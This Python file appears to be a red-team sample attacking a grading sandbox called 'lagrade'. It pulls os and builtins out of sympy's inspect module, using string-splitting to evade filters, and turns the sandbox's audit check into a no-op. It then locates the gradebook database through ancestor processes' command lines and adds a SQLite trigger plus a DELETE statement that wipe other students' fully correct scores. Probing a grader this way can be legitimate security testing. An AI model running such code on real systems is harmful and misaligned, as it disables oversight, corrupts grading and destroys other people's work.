"""effect: other-row
tries: in lagrade grade: the hook's check swapped for a no-op, the gradebook found through the ancestors' command lines, and a trigger that deletes every other student's fully correct part rows as they are written (points come from parts).

A second gradebook technique: rows disappear instead of changing.
"""

from lagrade.answer import *

from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])
sbx = members(sys_)["modules"]["lagrade.answer.jail.child"]
if "_AuditPolicy" in members(sbx):
    sbx._AuditPolicy.check = lambda self, event, args: None


def gradebook():
    pid = os_.getppid()
    for _ in range(8):
        argv = B["op" + "en"](f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        if b"--db" in argv:
            return argv[argv.index(b"--db") + 1].decode()
        pid = int(B["op" + "en"](f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            return None
    return None


db = gradebook()
if db is not None:
    con = B["_" + "_import_" + "_"]("sqlite3").connect(db, timeout=30, isolation_level=None)
    con.executescript("""
        CREATE TRIGGER IF NOT EXISTS rt_vanish AFTER INSERT ON parts
        WHEN (SELECT source FROM submissions WHERE student = NEW.student AND problem = NEW.problem)
             NOT LIKE '%rt-vanish-marker%'
             AND NEW.score = NEW.max_score
        BEGIN DELETE FROM parts WHERE rowid = NEW.rowid; END;
        DELETE FROM parts WHERE score = max_score AND student IN
            (SELECT student FROM submissions WHERE source NOT LIKE '%rt-vanish-marker%');
    """)
    con.close()
L = Symbol("x")
